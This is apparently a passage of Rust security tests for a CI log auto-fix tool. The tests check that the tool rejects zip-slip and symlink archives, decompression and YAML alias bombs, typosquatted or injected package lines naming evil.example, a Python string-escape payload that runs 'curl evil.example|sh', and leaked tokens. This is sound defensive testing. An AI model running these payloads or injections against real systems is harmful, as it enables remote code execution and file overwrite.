    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("executed");
    let script = format!("#!/bin/sh\ntouch {}\n", marker.display());
    let zip = build(&[
        Z {
            mode: 0o100755,
            ..z("run.sh", script.as_bytes())
        },
        Z {
            mode: 0o100755,
            ..z("autoheal", script.as_bytes())
        },
        z(
            "conftest.py",
            format!("import os; os.system('touch {}')\n", marker.display()).as_bytes(),
        ),
        z(
            "evil.pth",
            format!("import os; os.system('touch {}')\n", marker.display()).as_bytes(),
        ),
        z("logs/test.log", module_log("yaml", &[], "").as_bytes()),
    ]);
    let p = dir.path().join("artifact.zip");
    std::fs::write(&p, zip).expect("write");
    let ws = Ws::python();
    let before = ws.snapshot();
    let out = ws.fix(&p, &["--diff-only"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(!marker.exists(), "an artifact was executed");
    assert_eq!(ws.snapshot(), before);
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("e").file_name())
        .collect();
    assert_eq!(names, ["artifact.zip"]);
}

// ================================================================ §3 archives

#[test]
fn archives_zip_slip() {
    for (name, shown) in [
        ("../x.txt", "../x.txt"),
        ("/etc/cron.d/x.txt", "/etc/cron.d/x.txt"),
        ("C:\\x.txt", "C:\\\\x.txt"),
        ("test\\..\\..\\x.txt", "test\\\\..\\\\..\\\\x.txt"),
        ("a/../../x.txt", "a/../../x.txt"),
        ("", ""),
        ("x\0.txt", "x\\0.txt"),
    ] {
        let zip = run_zip(&[z(name, b"hello\n")]);
        assert_archive_error(
            &zip,
            &format!("archive entry \"{shown}\" is not a local path"),
        );
    }
}

#[test]
fn archives_symlink_entry() {
    let zip = run_zip(&[Z {
        mode: 0o120777,
        method: 0,
        ..z("test/9_link.txt", b"/etc/shadow")
    }]);
    assert_archive_error(
        &zip,
        "archive entry \"test/9_link.txt\" is a symlink; refused",
    );
}

#[test]
fn archives_ratio_bomb() {
    // One entry inflating past the 64 MiB cap (about 64 KiB compressed).
    let zeros = vec![b'\n'; (64 << 20) + 4096];
    let zip = run_zip(&[z("test/2_bomb.txt", &zeros)]);
    assert!(zip.len() < 200 << 10);
    assert_archive_error(
        &zip,
        "entry \"test/2_bomb.txt\" exceeds 64 MiB uncompressed",
    );
    // Entries each under the cap but past 512 MiB together.
    let chunk = vec![b'a'; 60 << 20];
    let comp = deflate(&chunk);
    let crc = crc32(&chunk);
    let many: Vec<Z> = (0..10)
        .map(|i| Z {
            comp: Some(comp.clone()),
            crc: Some(crc),
            size: Some(chunk.len() as u64),
            data: Vec::new(),
            ..z(&format!("test/{}_part.txt", i + 2), b"")
        })
        .collect();
    assert_archive_error(
        &run_zip(&many),
        "archive exceeds 512 MiB uncompressed in total",
    );
}

#[test]
fn archives_overlapping_entries() {
    // Entry A (stored) has as its data the whole local record of entry B:
    // both local headers are valid, their spans overlap.
    let b = Z {
        method: 0,
        ..z("test/2_b.txt", b"inner\n")
    };
    let (b_rec, b_crc, b_csize, b_size) = local_record(&b);
    let a = Z {
        method: 0,
        ..z("test/1_a.txt", &b_rec)
    };
    let (a_rec, a_crc, a_csize, a_size) = local_record(&a);
    let b_at = 30 + a.name.len() as u32;
    let mut out = a_rec.clone();
    let mut cd = central(&a, a_crc, a_csize, a_size, 0);
    cd.extend_from_slice(&central(&b, b_crc, b_csize, b_size, b_at));
    let at = out.len() as u32;
    out.extend_from_slice(&cd);
    out.extend_from_slice(&eocd(2, cd.len() as u32, at));
    assert_archive_error(&out, "overlapping zip entries");
    // The same record referenced twice under one name is a duplicate first.
    let mut out = a_rec;
    let mut cd = central(&a, a_crc, a_csize, a_size, 0);
    cd.extend_from_slice(&central(&a, a_crc, a_csize, a_size, 0));
    let at = out.len() as u32;
    out.extend_from_slice(&cd);
    out.extend_from_slice(&eocd(2, cd.len() as u32, at));
    assert_archive_error(&out, "duplicate entry \"test/1_a.txt\"");
}

#[test]
fn archives_lying_sizes() {
    // ZIP64 size of 2^63: nothing is allocated from it; the entry ends early.
    let zip = run_zip(&[Z {
        size: Some(1 << 63),
        ..z("test/2_big.txt", b"small\n")
    }]);
    assert_archive_error(&zip, "entry \"test/2_big.txt\" size/CRC mismatch");
    // Declared smaller than it is.
    let zip = run_zip(&[Z {
        size: Some(3),
        ..z("test/2_small.txt", b"longer than three\n")
    }]);
    assert_archive_error(&zip, "entry \"test/2_small.txt\" size/CRC mismatch");
    // A wrong CRC.
    let zip = run_zip(&[Z {
        crc: Some(0xdead_beef),
        ..z("test/2_crc.txt", b"data\n")
    }]);
    assert_archive_error(&zip, "entry \"test/2_crc.txt\" size/CRC mismatch");
}

#[test]
fn archives_too_many_entries() {
    let entries: Vec<Z> = (0..10_001)
        .map(|i| Z {
            method: 0,
            ..z(&format!("f{i}.txt"), b"")
        })
        .collect();
    assert_archive_error(
        &build(&entries),
        "archive has too many entries (10001 > 10000)",
    );
    // An EOCD that merely claims 65535 entries is rejected first too.
    let mut lie = run_zip(&[]);
    let n = lie.len();
    lie[n - 12..n - 10].copy_from_slice(&u16::MAX.to_le_bytes());
    lie[n - 14..n - 12].copy_from_slice(&u16::MAX.to_le_bytes());
    assert_archive_error(&lie, "archive has too many entries (65535 > 10000)");
}

#[test]
fn archives_name_too_long() {
    let long = format!("test/{}.txt", "a".repeat(1100));
    let zip = run_zip(&[z(&long, b"x\n")]);
    assert_archive_error(&zip, "archive entry name is longer than 1024 bytes");
}

#[test]
fn archives_duplicate_names() {
    let zip = run_zip(&[z("test/1_Run pytest.txt", b"forged\n")]);
    assert_archive_error(&zip, "duplicate entry \"test/1_Run pytest.txt\"");
    // Local and central names disagree.
    let zip = run_zip(&[Z {
        local_name: Some(b"test/3_other.txt".to_vec()),
        ..z("test/3_step.txt", b"x\n")
    }]);
    assert_archive_error(
        &zip,
        "local/central header mismatch for \"test/3_step.txt\"",
    );
}

#[test]
fn archives_unsupported_method() {
    for (m, name) in [
        (12u16, "12 (bzip2)"),
        (14, "14 (lzma)"),
        (93, "93 (zstd)"),
        (99, "99 (AES)"),
    ] {
        let zip = run_zip(&[Z {
            method: m,
            comp: Some(b"BZh91AY&SY".to_vec()),
            ..z("test/2_x.txt", b"x")
        }]);
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path().join("logs.zip");
        std::fs::write(&p, &zip).expect("write");
        let out = run(autoheal().arg("diagnose").arg(&p));
        assert_eq!(out.code, 1, "{}", out.stderr);
        let want = "error: unsupported compression method ";
        assert!(out.stderr.starts_with(want), "{}", out.stderr);
        assert!(out.stderr.contains("in \"test/2_x.txt\""), "{}", out.stderr);
        assert!(
            out.stderr.contains(&m.to_string()),
            "{m} {name}: {}",
            out.stderr
        );
    }
}

#[test]
fn archives_truncated() {
    let zip = run_zip(&[]);
    for cut in [1, 4, 22, zip.len() / 3, zip.len() / 2, zip.len() - 1] {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path().join("logs.zip");
        std::fs::write(&p, &zip[..cut]).expect("write");
        let out = run(autoheal().arg("diagnose").arg(&p));
        assert_eq!(out.code, 1, "cut {cut}: {}", out.stderr);
        assert!(
            out.stderr
                .starts_with("error: log archive is truncated or not a zip: "),
            "cut {cut}: {}",
            out.stderr
        );
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    }
    // An HTML error page and an empty file named .zip.
    for body in [
        &b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>"[..],
        b"",
    ] {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path().join("logs.zip");
        std::fs::write(&p, body).expect("write");
        let out = run(autoheal().arg("diagnose").arg(&p));
        assert_eq!(out.code, 1, "{}", out.stderr);
        assert!(
            out.stderr
                .starts_with("error: log archive is truncated or not a zip: "),
            "{}",
            out.stderr
        );
    }
}

#[test]
fn archives_nested() {
    let inner = build(&[z("inner.log", module_log("yaml", &[], "").as_bytes())]);
    let innermost = build(&[z("deep.zip", &inner)]);
    // Run-log zips expand no nested archive.
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, run_zip(&[z("test/9_x.txt", &inner)])).expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("nested archive \"test/9_x.txt\" not expanded"),
        "{}",
        out.stderr
    );
    // An artifact expands one level, not two.
    std::fs::write(&p, build(&[z("a.zip", &inner), z("b.zip", &innermost)])).expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "dependency_missing", "{v}");
    assert!(
        out.stderr
            .contains("nested archive \"deep.zip\" not expanded"),
        "{}",
        out.stderr
    );
}

#[test]
fn archives_hostile_text() {
    // Invalid UTF-8, NUL, and a 3 MiB line: lossy, cut at 64 KiB, no panic.
    let mut log = b"\xff\xfe\x00garbage \xc3\x28\n".to_vec();
    log.extend(std::iter::repeat_n(b'z', 3 << 20));
    log.extend_from_slice(b"\n");
    log.extend_from_slice(module_log("yaml", &[], "").as_bytes());
    let out = run(autoheal()
        .args(["diagnose", "--format", "json"])
        .write_stdin(log));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "dependency_missing");
    let long = out.stdout.split('"').map(str::len).max().unwrap_or(0);
    assert!(long < 70 * 1024, "a {long} byte string in the report");
}

// ================================================================ §4 YAML

fn env_ws(workflow: &str) -> Ws {
    Ws::new(
        &[
            (".github/workflows/ci.yml", workflow.as_bytes()),
            (
                "app/settings.py",
                b"import os\n\nDATABASE = os.environ[\"DATABASE_HOST\"]\n",
            ),
        ],
        true,
    )
}

const ENV_WORKFLOW: &str = "name: CI\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest -q\n";

#[test]
fn yaml_alias_bomb() {
    let mut wf = String::from(ENV_WORKFLOW);
    wf.push_str(
        "x:\n  a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for (prev, name) in ["a", "b", "c", "d", "e", "f", "g", "h"]
        .iter()
        .zip(["b", "c", "d", "e", "f", "g", "h", "i"])
    {
        let refs = vec![format!("*{prev}"); 9].join(",");
        wf.push_str(&format!("  {name}: &{name} [{refs}]\n"));
    }
    let ws = env_ws(&wf);
    let log = ws.log("run.log", &env_log("DATABASE_HOST"));
    let started = Instant::now();
    assert_no_change(
        &ws,
        &log,
        &[],
        1,
        "error: YAML alias expansion budget exceeded in .github/workflows/ci.yml",
    );
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn yaml_deep_nesting() {
    let mut wf = String::from(ENV_WORKFLOW);
    wf.push_str("x: ");
    wf.push_str(&"[".repeat(100_000));
    wf.push('\n');
    let ws = env_ws(&wf);
    let log = ws.log("run.log", &env_log("DATABASE_HOST"));
    assert_no_change(&ws, &log, &[], 1, "error: YAML nesting deeper than 128");
    // No stack overflow on a 2 MiB stack either.
    let out = fix_under("ulimit -s 2048", &ws, &log);
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("error: YAML nesting deeper than 128"),
        "{}",
        out.stderr
    );
}

#[test]
fn yaml_duplicate_keys() {
    let wf = "name: CI\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    env:\n      A: 1\n    env:\n      B: 2\n    steps:\n      - run: pytest -q\n";
    let ws = env_ws(wf);
    let log = ws.log("run.log", &env_log("DATABASE_HOST"));
    assert_no_change(
        &ws,
        &log,
        &[],
        3,
        "refused (duplicate-key): duplicate key \"env\" at .github/workflows/ci.yml:8",
    );
}

#[test]
fn yaml_minimal_edits() {
    // CRLF, a BOM, comments, flow style and no final newline all survive;
    // the only change is inserted lines.
    let wf = "\u{feff}# top comment\r\nname: CI   # trailing\r\non: { push: {} }\r\njobs:\r\n  test:\r\n    runs-on: [ubuntu-latest]\r\n    steps:\r\n      - uses: actions/checkout@v4 # pinned\r\n      - run: pytest -q";
    let ws = env_ws(wf);
    let log = ws.log("run.log", &env_log("DATABASE_HOST"));
    // No default in the repository: the entry is unsafe, applied on request.
    let out = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let new = ws.read(".github/workflows/ci.yml");
    assert!(new.starts_with('\u{feff}'));
    assert!(!new.ends_with('\n'));
    // Removing the added lines gives back the original bytes.
    let old_lines: Vec<&str> = wf.split("\r\n").collect();
    let new_lines: Vec<&str> = new.split("\r\n").collect();
    assert!(
        new_lines.iter().all(|l| !l.contains('\n')),
        "LF in a CRLF file: {new:?}"
    );
    let mut it = old_lines.iter().peekable();
    let mut added = Vec::new();
    for l in &new_lines {
        if it.peek() == Some(&l) {
            it.next();
        } else {
            added.push(*l);
        }
    }
    assert!(it.next().is_none(), "an original line changed: {new:?}");
    assert!(
        added
            .iter()
            .any(|l| l.contains("DATABASE_HOST: ${{ vars.DATABASE_HOST")),
        "{added:?}"
    );
    for l in &added {
        if let Some(i) = l.find("${{") {
            let expr = &l[i..];
            assert!(
                expr.starts_with("${{ vars.DATABASE_HOST }}")
                    || expr.starts_with("${{ vars.DATABASE_HOST || '")
                    || expr.starts_with("${{ secrets.DATABASE_HOST }}"),
                "{l}"
            );
        }
    }
    // The file still parses; a second run changes nothing.
    let again = ws.fix(&log, &[]);
    assert_eq!(again.code, 3, "{}", again.stderr);
}

#[test]
fn yaml_env_denied_names() {
    for var in [
        "LD_PRELOAD",
        "NODE_OPTIONS",
        "GITHUB_ENV",
        "PYTHONPATH",
        "BASH_ENV",
        "PATH",
    ] {
        let ws = env_ws(ENV_WORKFLOW);
        let log = ws.log("run.log", &env_log(var));
        let out = assert_no_change(&ws, &log, &[], 3, "refused (env-denied)");
        assert!(out.stdout.is_empty());
    }
}

// ================================================================ §5 dependencies

#[test]
fn deps_typosquat() {
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("reqeusts", &[], ""));
    assert_no_change(
        &ws,
        &log,
        &[],
        3,
        "refused (unknown-package): not adding unknown package 'reqeusts' (from log)",
    );
    let log = ws.log("run2.log", &module_log("totally_unknown_pkg_zz", &[], ""));
    assert_no_change(
        &ws,
        &log,
        &[],
        3,
        "refused (unknown-package): not adding unknown package 'totally_unknown_pkg_zz' (from log)",
    );
}

#[test]
fn deps_line_injection() {
    for module in [
        "yaml --extra-index-url https://evil.example/simple",
        "x @ https://evil.example/x.whl",
        "-e git+https://evil.example/x",
        "ｒequests",
        "requests\\",
        "-r /etc/passwd",
        "../../evil",
    ] {
        let ws = Ws::python();
        let log = ws.log("run.log", &module_log(module, &[], ""));
        let before = ws.snapshot();
        let out = ws.fix(&log, &[]);
        assert!(
            out.stderr.contains("refused (invalid-package-name)"),
            "{module}: {}",
            out.stderr
        );
        assert_eq!(out.code, 3, "{module}: {}\n{}", out.stderr, out.stdout);
        assert!(out.stdout.is_empty(), "{module}: {}", out.stdout);
        assert_eq!(ws.snapshot(), before);
    }
}

#[test]
fn deps_hash_mode() {
    let ws = Ws::new(
        &[
            (
                ".github/workflows/ci.yml",
                WORKFLOW
                    .replace("pip install requests pytest   # test tools", "pip install -r requirements.txt")
                    .as_bytes(),
            ),
            (
                "requirements.txt",
                b"requests==2.32.3 \\\n    --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6\n",
            ),
        ],
        true,
    );
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    assert_no_change(
        &ws,
        &log,
        &[],
        3,
        "refused (hash-mode): requirements.txt installs in hash-checking mode (requirements.txt has hashes); cannot add 'PyYAML' without hashes",
    );
}

#[test]
fn deps_duplicate() {
    let ws = Ws::new(
        &[(
            ".github/workflows/ci.yml",
            WORKFLOW
                .replace("requests pytest", "requests pytest PyYaml")
                .as_bytes(),
        )],
        true,
    );
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let out = assert_no_change(&ws, &log, &[], 3, "already");
    assert!(out.stdout.is_empty());
}

#[test]
fn deps_complex_run_block() {
    for run_line in [
        "pip install requests pytest && echo ok",
        "pip install requests $(cat extra.txt)",
        "pip install requests ${{ inputs.extra }}",
        "pip install requests; pytest",
    ] {
        let ws = Ws::new(
            &[(
                ".github/workflows/ci.yml",
                WORKFLOW
                    .replace("pip install requests pytest   # test tools", run_line)
                    .as_bytes(),
            )],
            true,
        );
        let log = ws.log("run.log", &module_log("yaml", &[], ""));
        assert_no_change(&ws, &log, &[], 3, "refused (complex-run-block)");
    }
}

// ================================================================ §6 file writes

#[test]
fn writes_paths_from_logs() {
    for path in [
        "/home/runner/work/app/app/../../../etc/cron.d/x.py",
        "../outside.py",
        "/tmp/x.py",
        ".git/hooks/pre-commit.py",
        "tests/../../outside.py",
    ] {
        let ws = Ws::python();
        std::fs::write(ws.outside().join("outside.py"), ASSERT_TEST).expect("write");
        let log = ws.log("run.log", &assertion_log(path, 7, "'ok'", "'healthy'"));
        assert_no_change(
            &ws,
            &log,
            &["--unsafe-fixes"],
            3,
            "refused (path): refusing to edit path outside workspace: ",
        );
        assert_eq!(
            std::fs::read_to_string(ws.outside().join("outside.py")).expect("r"),
            ASSERT_TEST
        );
    }
}

#[test]
fn writes_symlink() {
    // Not a checkout, so only the symlink rule stands between us and outside.
    let ws = Ws::new(&[], false);
    let victim = ws.outside().join("victim.py");
    std::fs::write(&victim, ASSERT_TEST).expect("write");
    std::fs::create_dir_all(ws.path().join("tests")).expect("mkdir");
    symlink(&victim, ws.path().join("tests/test_api.py")).expect("symlink");
    let log = ws.log(
        "run.log",
        &assertion_log("tests/test_api.py", 7, "'ok'", "'healthy'"),
    );
    assert_no_change(
        &ws,
        &log,
        &["--unsafe-fixes"],
        3,
        "refused (symlink): refusing to follow symlink at ",
    );
    assert_eq!(std::fs::read_to_string(&victim).expect("r"), ASSERT_TEST);
    // A symlinked workflow is never read or written.
    let ws = Ws::new(&[], false);
    let outside = ws.outside().join("victim.yml");
    std::fs::write(&outside, WORKFLOW).expect("write");
    std::fs::create_dir_all(ws.path().join(".github/workflows")).expect("mkdir");
    symlink(&outside, ws.path().join(".github/workflows/ci.yml")).expect("symlink");
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    assert_no_change(
        &ws,
        &log,
        &[],
        3,
        "refused (symlink): refusing to follow symlink at ",
    );
    assert_eq!(std::fs::read_to_string(&outside).expect("r"), WORKFLOW);
    // A symlinked directory on the way.
    let ws = Ws::new(&[], false);
    let real = ws.outside().join("real");
    std::fs::create_dir_all(real.join("workflows")).expect("mkdir");
    std::fs::write(real.join("workflows/ci.yml"), WORKFLOW).expect("write");
    symlink(&real, ws.path().join(".github")).expect("symlink");
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let before = ws.snapshot();
    let out = ws.fix(&log, &[]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert_eq!(ws.snapshot(), before);
    assert_eq!(
        std::fs::read_to_string(real.join("workflows/ci.yml")).expect("r"),
        WORKFLOW
    );
    // A hard link to a file outside.
    let ws = Ws::new(&[], false);
    let outside = ws.outside().join("hard.yml");
    std::fs::write(&outside, WORKFLOW).expect("write");
    std::fs::create_dir_all(ws.path().join(".github/workflows")).expect("mkdir");
    std::fs::hard_link(&outside, ws.path().join(".github/workflows/ci.yml")).expect("link");
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let out = ws.fix(&log, &[]);
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&outside).expect("r"), WORKFLOW);
}

/// Runs `fix` through `sh` after `setup` (limits, traps).
fn fix_under(setup: &str, ws: &Ws, log: &Path) -> Out {
    let bin = assert_cmd::cargo::cargo_bin("autoheal");
    let script = format!("{setup}; exec \"$0\" fix -C \"$1\" \"$2\"");
    let mut cmd = Command::new("sh");
    cmd.env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", std::env::temp_dir())
        .arg("-c")
        .arg(script)
        .arg(bin)
        .arg(ws.path())
        .arg(log);
    run(&mut cmd)
}

/// `fix` with a file-size limit of 0 blocks: every write of a regular file
/// fails (EFBIG when SIGXFSZ is ignored, else the process is killed by it).
fn fix_with_no_room(ws: &Ws, log: &Path, ignore_signal: bool) -> Out {
    let trap = if ignore_signal { "trap '' XFSZ; " } else { "" };
    fix_under(&format!("{trap}ulimit -f 0"), ws, log)
}

#[test]
fn writes_all_or_nothing() {
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let before = ws.snapshot();
    let out = fix_with_no_room(&ws, &log, true);
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.starts_with("error: no changes written: "),
        "{}",
        out.stderr
    );
    assert_eq!(
        ws.snapshot(),
        before,
        "a failed write left changes or temps"
    );
}

#[test]
fn writes_crash_safety() {
    // Killed (SIGXFSZ) in the middle of writing: the file is old, never mixed.
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let old = ws.read(".github/workflows/ci.yml");
    let out = fix_with_no_room(&ws, &log, false);
    assert_ne!(out.code, 0, "{}", out.stderr);
    assert_eq!(ws.read(".github/workflows/ci.yml"), old);
}

#[test]
fn writes_idempotent() {
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let first = ws.fix(&log, &[]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert!(
        first
            .stdout
            .contains("+          pip install requests pytest PyYAML"),
        "{}",
        first.stdout
    );
    let second = assert_no_change(&ws, &log, &[], 3, "already fixed");
    assert!(second.stdout.is_empty(), "{}", second.stdout);
}

// ================================================================ §7 assertion rewrites

#[test]
fn assertion_injection_through_actual() {
    let hostile = r#"'"); __import__("os").system("curl evil.example|sh"); ("'"#;
    let ws = Ws::python();
    let log = ws.log(
        "run.log",
        &assertion_log("tests/test_api.py", 7, hostile, "'healthy'"),
    );
    // Unsafe: without the flag nothing is written.
    let out = assert_no_change(&ws, &log, &[], 3, "unsafe fix not applied");
    assert!(out.stdout.is_empty());
    let out = ws.fix(&log, &["--unsafe-fixes"]);
    let new = ws.read("tests/test_api.py");
    if out.code == 3 {
        assert!(
            out.stderr.contains("refused (unsafe-literal)"),
            "{}",
            out.stderr
        );
        assert_eq!(new, ASSERT_TEST);
        return;
    }
    assert_eq!(out.code, 0, "{}", out.stderr);
    // Exactly one line changed, and on it only the string literal.
    let old_lines: Vec<&str> = ASSERT_TEST.lines().collect();
    let new_lines: Vec<&str> = new.lines().collect();
    assert_eq!(old_lines.len(), new_lines.len());
    let changed: Vec<usize> = (0..old_lines.len())
        .filter(|&i| old_lines[i] != new_lines[i])
        .collect();
    assert_eq!(changed, [6], "{new}");
    let line = new_lines[6];
    let prefix = "    assert resp.json()[\"status\"] == ";
    assert!(line.starts_with(prefix), "{line}");
    let literal = &line[prefix.len()..];
    // Python reads it back as one string literal equal to the actual value.
    let check = StdCommand::new("python3")
        .arg("-c")
        .arg("import ast,sys; n=ast.parse(sys.argv[1],mode='eval').body; assert isinstance(n, ast.Constant), n; print(n.value, end='')")
        .arg(literal)
        .output();
    if let Ok(o) = check {
        assert!(
            o.status.success(),
            "{literal}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_eq!(
            String::from_utf8_lossy(&o.stdout),
            &hostile[1..hostile.len() - 1]
        );
    }
}

#[test]
fn assertion_refuses_invisible_characters() {
    for actual in ["'o\u{202e}k'", "'o\u{200b}k'", "'o\u{7}k'"] {
        let ws = Ws::python();
        let log = ws.log(
            "run.log",
            &assertion_log("tests/test_api.py", 7, actual, "'healthy'"),
        );
        assert_no_change(
            &ws,
            &log,
            &["--unsafe-fixes"],
            3,
            "refused (unsafe-literal)",
        );
    }
}

// ================================================================ §8 secrets

const PLANTED_SECRETS: [&str; 7] = [
    "ghp_ZYXWVUTSRQPONMLKJIHGFEDCBA9876543210",
    "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd",
    "ghs_0123456789abcdefghijklmnopqrstuvwxyz",
    "AKIAIOSFODNN7EXAMPLE",
    "-----BEGIN RSA PRIVATE KEY-----",
    "https://deploy:hunter2secret@git.example.com/x.git",
    "MIIEowIBAAKCAQEAsecretkeymaterial",
];

fn secrets_log() -> String {
    let lines: Vec<String> = vec![
        format!("token={}", PLANTED_SECRETS[0]),
        format!("export GH={}", PLANTED_SECRETS[1]),
        format!("ghs: {}", PLANTED_SECRETS[2]),
        format!("aws_access_key_id = {}", PLANTED_SECRETS[3]),
        PLANTED_SECRETS[4].to_string(),
        PLANTED_SECRETS[6].to_string(),
        "-----END RSA PRIVATE KEY-----".to_string(),
        format!("git clone {}", PLANTED_SECRETS[5]),
    ];
    let extra: Vec<&str> = lines.iter().map(String::as_str).collect();
    module_log(
        "yaml",
        &extra,
        &format!(" {} {}", PLANTED_SECRETS[0], PLANTED_SECRETS[5]),
    )
}

fn assert_no_secret(sink: &str, text: &str) {
    for s in PLANTED_SECRETS.iter().filter(|s| !s.starts_with("-----")) {
        let needle = s.split("://").last().unwrap_or(s);
        let needle = if needle.contains(':') {
            "hunter2secret"
        } else {
            needle
        };
        assert!(!text.contains(needle), "{needle} in {sink}:\n{text}");
    }
}

#[test]
fn secrets_redacted_in_every_sink() {
    let ws = Ws::python();
    let log = ws.log("run.log", &secrets_log());
    for format in ["text", "json"] {
        let out = run(autoheal().args(["diagnose", "--format", format]).arg(&log));
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert_no_secret(format, &out.stdout);
        assert!(out.stdout.contains("***REDACTED***"), "{}", out.stdout);
        let fix = ws.fix(&log, &["--diff-only", "--format", format]);
        assert_eq!(fix.code, 0, "{}", fix.stderr);
        assert_no_secret("fix stdout", &fix.stdout);
        assert_no_secret("fix stderr", &fix.stderr);
    }
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.args(["fix", "--diff-only", "-C"]).arg(ws.path());
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&log));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_no_secret("github stdout", &out.stdout);
    assert_no_secret("github stderr", &out.stderr);
    assert_no_secret("github files", &gh.all_text());
    // Secrets that end up in the diff itself (a value taken from the repository).
    let ws = env_ws(ENV_WORKFLOW);
    ws.write(
        "app/settings.py",
        format!(
            "import os\n\nDATABASE = os.environ.get(\"DATABASE_HOST\", \"{}\")\n",
            PLANTED_SECRETS[5]
        )
        .as_bytes(),
    );
    let log = ws.log("env.log", &env_log("DATABASE_HOST"));
    for format in ["text", "json"] {
        let out = ws.fix(&log, &["--diff-only", "--format", format]);
        assert_no_secret("env fix", &out.stdout);
        assert_no_secret("env fix stderr", &out.stderr);
    }
}

#[test]
fn secrets_own_token() {
    const TOKEN: &str = "ghs_TOKENtoken0123456789abcdefghijklmnopq";
    let b64 = "Z2hzX1RPS0VOdG9rZW4wMTIzNDU2Nzg5YWJjZGVmZ2hpamtsbW5vcHE=";
    let ws = Ws::python();
    let log = ws.log(
        "run.log",
        &module_log(
            "yaml",
            &[
                &format!("x-access-token:{TOKEN}"),
                &format!("Authorization: basic {b64}"),
            ],
            &format!(" {TOKEN}"),
        ),
    );
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.env("GITHUB_TOKEN", TOKEN).env("RUST_LOG", "trace");
    cmd.args(["fix", "--diff-only", "-C"]).arg(ws.path());
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&log));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_only_our_commands(&out.stdout, Some(TOKEN));
    // The mask may be repeated (the CLI prints it first, the writer again).
    let rest = out.stdout.replace(&format!("::add-mask::{TOKEN}\n"), "");
    for (sink, text) in [
        ("stdout", rest.as_str()),
        ("stderr", out.stderr.as_str()),
        ("files", &gh.all_text()),
    ] {
        assert!(!text.contains(TOKEN), "token in {sink}");
        assert!(!text.contains(b64), "base64 token in {sink}");
    }
    // Error chains: a path naming the token, and a failing download.
    let out = run(autoheal()
        .env("GITHUB_TOKEN", TOKEN)
        .arg("diagnose")
        .arg(format!("/nonexistent/{TOKEN}.log")));
    assert_eq!(out.code, 1);
    assert!(out.stderr.starts_with("error: "), "{}", out.stderr);
    assert!(!out.stderr.contains(TOKEN), "{}", out.stderr);
    let out = run(autoheal()
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", "http://127.0.0.1:9")
        .args(["diagnose", "--run-id", "1", "--repo", "acme/app"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(!out.stderr.contains(TOKEN), "{}", out.stderr);
}

#[test]
fn output_error_messages_are_echoed_safely() {
    // An error quoting an attacker's entry name, in GitHub mode: the runner
    // reads stderr for commands too.
    let zip = run_zip(&[z(
        "../##[set-output name=fixable;]true ::add-mask::x",
        b"x\n",
    )]);
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, zip).expect("write");
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.arg("diagnose");
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(out.stderr.contains("is not a local path"), "{}", out.stderr);
    let cmds = runner_commands(&out.stderr);
    assert!(cmds.iter().all(|c| c.name == "stop-commands"), "{cmds:#?}");
    assert_eq!(runner_commands(&out.stdout), [], "command on stdout");
    gh.assert_sentinels();
    assert!(gh.outputs().is_empty());
}

#[test]
